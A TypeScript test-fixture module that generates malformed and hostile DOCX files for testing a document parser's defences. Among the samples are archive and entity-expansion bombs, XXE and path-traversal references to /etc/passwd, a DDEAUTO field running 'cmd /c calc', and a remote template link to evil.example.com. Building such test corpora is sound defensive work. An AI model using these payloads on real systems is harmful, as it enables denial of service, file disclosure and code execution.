import { strToU8 } from 'fflate';
import { archiveOf, type Entry } from './archiveOf.ts';

const office = 'http://schemas.openxmlformats.org';
const w = `xmlns:w="${office}/wordprocessingml/2006/main"`;
const type = `${office}/officeDocument/2006/relationships`;
const links = (inner: string): string =>
  `<Relationships xmlns="${office}/package/2006/relationships">${inner}</Relationships>`;
const link = (id: string, kind: string, target: string, more = ''): string =>
  `<Relationship Id="${id}" Type="${type}/${kind}" Target="${target}"${more}/>`;
const root: Entry = { name: '_rels/.rels', data: links(link('r1', 'officeDocument', 'word/document.xml')) };
const documentOf = (body: string, head = ''): string => `${head}<w:document ${w}><w:body>${body}</w:body></w:document>`;
const main = (data: Uint8Array | string, more: Partial<Entry> = {}): Entry => ({
  name: 'word/document.xml',
  data,
  ...more,
});
const paragraph = (text: string): string => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;
const times = (count: number, text: string | ((i: number) => string)): string =>
  typeof text === 'string' ? text.repeat(count) : Array.from({ length: count }, (_, i) => text(i)).join('');
const nested = (count: number, open: string, close: string): string => open.repeat(count) + close.repeat(count);
const utf16 = (text: string, mark: boolean): Uint8Array =>
  Buffer.concat([Buffer.from(mark ? [0xff, 0xfe] : []), Buffer.from(text, 'utf16le')]);

/** A hostile file, and whether it has to be refused; what is not may be read, and is told by a warning or compared. */
export interface Hostile {
  readonly name: string;
  readonly bytes: () => Uint8Array;
  readonly isRefused: boolean;
}

const MB = 1024 * 1024;
const file = (name: string, isRefused: boolean, bytes: () => Uint8Array): Hostile => ({ name, bytes, isRefused });
const doc = (name: string, isRefused: boolean, body: () => string): Hostile =>
  file(name, isRefused, () => archiveOf([root, main(documentOf(body()))]));

/** Archives that are no sound archives, or unpack to too much. */
const archives: readonly Hostile[] = [
  file('nothing', true, () => new Uint8Array()),
  file('one byte', true, () => Uint8Array.of(80)),
  file('a picture', true, () => Buffer.from('89504e470d0a1a0a', 'hex')),
  file('an old document', true, () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(5000)])),
  file('a locked document', true, () =>
    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.from('EncryptedPackage', 'utf16le')]),
  ),
  file('an archive of nothing', true, () => archiveOf([])),
  file('no document', true, () => archiveOf([{ name: 'xl/workbook.xml', data: '<a/>' }])),
  file('a link to nothing', true, () => archiveOf([root])),
  file('a link outside the archive', true, () =>
    archiveOf([{ name: '_rels/.rels', data: links(link('r1', 'officeDocument', '../../../etc/passwd')) }]),
  ),
  file('another kind of document', true, () => archiveOf([root, main('<workbook/>')])),
  file('5,000 parts', true, () =>
    archiveOf([root, ...Array.from({ length: 5000 }, (_, i) => ({ name: `a${i}`, data: '', method: 0 }))]),
  ),
  file('more parts than there are', true, () => archiveOf([root, main(documentOf(''))], { count: 3000 })),
  file('a part twice', true, () => archiveOf([root, main(documentOf('')), { name: 'WORD/document.xml', data: '' }])),
  file('a part under a password', true, () => archiveOf([root, main(documentOf(''), { flags: 1 })])),
  file('a strange packing', true, () => archiveOf([root, main(documentOf(''), { method: 12 })])),
  file('a long name', true, () => archiveOf([root, main(documentOf('')), { name: 'a'.repeat(60_000), data: '' }])),
  file('more than 4 GB', true, () => archiveOf([root, main(documentOf(''), { declared: 0xffffffff })])),
  file('300 MB, as it says', true, () => archiveOf([root, main(documentOf(''), { declared: 300 * MB })])),
  file('64 MB of spaces', true, () => archiveOf([root, main(documentOf(' '.repeat(64 * MB)))])),
  file('64 MB of spaces that say to be 1 KB', true, () =>
    archiveOf([root, main(documentOf(' '.repeat(64 * MB)), { declared: 1024 })]),
  ),
  file('12 MB of spaces', true, () => archiveOf([root, main(documentOf(paragraph(' '.repeat(12 * MB))))])),
  file('shorter than it says', true, () => archiveOf([root, main(documentOf(''), { declared: 5000 })])),
  file('no deflated data', true, () =>
    archiveOf([root, { name: 'word/document.xml', data: 'abcdefgh', method: 0, declared: 8 }]),
  ),
];

/** Parts that are no sound XML, or are made to be dear. */
const markup: readonly Hostile[] = [
  file('entities in entities', true, () =>
    archiveOf([
      root,
      main(
        documentOf(
          paragraph('&d;'),
          '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;"><!ENTITY d "&b;&b;">]>',
        ),
      ),
    ]),
  ),
  file('an outside document type', true, () =>
    archiveOf([root, main(documentOf('', '<!DOCTYPE x SYSTEM "file:///etc/passwd">'))]),
  ),
  file('a document type in the links', true, () =>
    archiveOf([{ ...root, data: `<!DOCTYPE x>${String(root.data)}` }, main(documentOf(''))]),
  ),
  doc('an unknown entity', true, () => paragraph('&nbsp;')),
  doc('open elements', true, () => '<w:p><w:r>'),
  file('cut in the middle', true, () => archiveOf([root, main(documentOf(paragraph('words')).slice(0, -30))])),
  file('cp1251 by name', true, () =>
    archiveOf([root, main(documentOf('', '<?xml version="1.0" encoding="windows-1251"?>'))]),
  ),
  file('utf-7 by name', true, () => archiveOf([root, main(documentOf('', '<?xml version="1.0" encoding="utf-7"?>'))])),
  file('cp1251 in truth', true, () =>
    archiveOf([root, main(Buffer.from(documentOf(paragraph('\u00cf\u00f0\u00e8')), 'latin1'))]),
  ),
  file('utf-16 without a mark', true, () => archiveOf([root, main(utf16(documentOf(''), false))])),
  file('half a letter at the end', true, () =>
    archiveOf([root, main(Buffer.concat([strToU8(documentOf('')), Buffer.from([0xd0])]))]),
  ),
  doc('a control sign', true, () => paragraph('\u0001')),
  file('an undeclared prefix', true, () => archiveOf([root, main('<w:document/>')])),
  doc('10,000 tables in each other', true, () => nested(10_000, '<w:tbl><w:tr><w:tc>', '</w:tc></w:tr></w:tbl>')),
  doc('10,000 content controls in each other', true, () => nested(10_000, '<w:sdt>', '</w:sdt>')),
  doc('10,000 unknown elements in each other', true, () => nested(10_000, '<x>', '</x>')),
  doc('a million elements', true, () => times(1_000_000, (i) => `<w:b w:val="${i % 977}"/>`)),
  doc('100,000 paragraphs', true, () => times(100_000, (i) => paragraph(String(i * 7919)))),
  doc('3 million letters', true, () => times(30, (i) => paragraph(times(20_000, (k) => `${(i * k) % 9973} `)))),
  doc('100,000 attributes', false, () => `<w:p ${times(100_000, (i) => `a${i}="${i}" `)}/>`),
  doc('100,000 namespaces', false, () => `<w:p ${times(100_000, (i) => `xmlns:a${i}="u${i}" `)}/>`),
  doc('a long remark', false, () => `<!--${times(300_000, (i) => String(i))}-->`),
  doc('a long instruction', false, () => `<?x ${times(300_000, (i) => String(i))}?>`),
  doc(
    'deep, then wide',
    false,
    () => `${'<w:sdt>'.repeat(90)}${times(30_000, (i) => `<w:b w:val="${i}"/>`)}${'</w:sdt>'.repeat(90)}`,
  ),
];

const words = (i: number, count: number): string => times(count, (k) => `w${(i * 31 + k * 17) % 499} `);

/** Documents that are sound, and dear to compare or dangerous to open. */
const documents: readonly Hostile[] = [
  doc('8,000 short paragraphs', false, () => times(8000, (i) => paragraph(`${i % 7} and ${i}`))),
  doc('8,000 equal paragraphs', false, () => times(8000, () => paragraph('the same'))),
  doc('one paragraph of 100,000 words', false, () => paragraph(words(1, 100_000))),
  doc('100 paragraphs of 800 words', false, () => times(100, (i) => paragraph(words(i, 800)))),
  doc(
    'one row of 8,000 cells',
    false,
    () => `<w:tbl><w:tr>${times(8000, (i) => `<w:tc>${paragraph(`c${i}`)}</w:tc>`)}</w:tr></w:tbl>`,
  ),
  doc('20,000 short paragraphs', true, () => times(20_000, (i) => paragraph(`${i % 7} and ${i}`))),
  doc('20,000 equal paragraphs', true, () => times(20_000, () => paragraph('the same'))),
  doc('one paragraph of 300,000 words', true, () => paragraph(words(1, 300_000))),
  doc('300 paragraphs of 800 words', true, () => times(300, (i) => paragraph(words(i, 800)))),
  doc(
    '20,000 rows',
    true,
    () => `<w:tbl>${times(20_000, (i) => `<w:tr><w:tc>${paragraph(`a${i % 9}`)}</w:tc></w:tr>`)}</w:tbl>`,
  ),
  doc(
    'one row of 20,000 cells',
    true,
    () => `<w:tbl><w:tr>${times(20_000, (i) => `<w:tc>${paragraph(`c${i}`)}</w:tc>`)}</w:tr></w:tbl>`,
  ),
  doc(
    '60,000 changes',
    false,
    () => `<w:p>${times(60_000, (i) => `<w:ins w:author="a${i}"><w:r><w:t>x</w:t></w:r></w:ins>`)}</w:p>`,
  ),
  doc(
    '50,000 open fields',
    false,
    () => `<w:p><w:r>${times(50_000, '<w:fldChar w:fldCharType="begin"/>')}</w:r></w:p>`,
  ),
  doc(
    '50,000 open comments',
    false,
    () => `<w:p>${times(50_000, (i) => `<w:commentRangeStart w:id="${i}"/><w:r><w:t>x</w:t></w:r>`)}</w:p>`,
  ),
  doc(
    'spans of millions',
    false,
    () =>
      `<w:tbl><w:tr>${times(1000, () => `<w:tc><w:tcPr><w:gridSpan w:val="99999999"/></w:tcPr>${paragraph('x')}</w:tc>`)}</w:tr></w:tbl>`,
  ),
  doc(
    'fields that fetch',
    false,
    () =>
      `<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDEAUTO cmd "/c calc"</w:instrText><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
  ),
  file('macros', false, () => archiveOf([root, main(documentOf('')), { name: 'word/vbaProject.bin', data: 'x' }])),
  file('what leads outside', false, () =>
    archiveOf([
      root,
      main(documentOf('')),
      {
        name: 'word/_rels/document.xml.rels',
        data: links(
          link('r1', 'attachedTemplate', 'https://evil.example.com/t.dotm', ' TargetMode="External"') +
            link('r2', 'oleObject', 'embeddings/o.bin') +
            link('r3', 'aFChunk', 'a.html'),
        ),
      },
    ]),
  ),
  file('500 parts on one footer', true, () =>
    archiveOf([
      root,
      main(documentOf('')),
      { name: 'word/_rels/document.xml.rels', data: links(times(500, (i) => link(`r${i}`, 'footer', `f${i}.xml`))) },
      ...Array.from({ length: 500 }, (_, i) => ({
        name: `word/f${i}.xml`,
        data: `<w:ftr ${w}>${times(4000, (k) => `<w:b w:val="${k * i}"/>`)}</w:ftr>`,
      })),
    ]),
  ),
  file('100,000 links', true, () =>
    archiveOf([
      root,
      main(documentOf('')),
      { name: 'word/_rels/document.xml.rels', data: links(times(100_000, (i) => link(`r${i}`, 'footer', `../${i}`))) },
    ]),
  ),
  file('utf-16, as it may be', false, () =>
    archiveOf([root, main(utf16(documentOf(paragraph('x'), '<?xml version="1.0" encoding="UTF-16"?>'), true))]),
  ),
];

export const hostileFiles: readonly Hostile[] = [...archives, ...markup, ...documents];

/** One of them by its name; throws where there is none. */
export function hostileFile(name: string): Uint8Array {
  const found = hostileFiles.find((one) => one.name === name);
  if (found === undefined) throw new Error(`There is no hostile file ${name}.`);
  return found.bytes();
}

/** A sound copy cut off or with bytes turned, as a bad line leaves it; the same for the same seed. */
export function damaged(copy: Uint8Array, seed: number): Uint8Array {
  let state = seed * 2654435761 + 1;
  const next = (below: number): number => {
    state = (Math.imul(state, 1103515245) + 12345) >>> 0;
    return state % below;
  };
  if (seed % 3 === 0) return copy.slice(0, next(copy.length));
  const made = Uint8Array.from(copy);
  // The list at the end and the parts before it alike.
  for (let i = 0; i < 40; i += 1) made[seed % 3 === 1 ? next(made.length) : made.length - 1 - next(4000)] = next(256);
  return made;
}
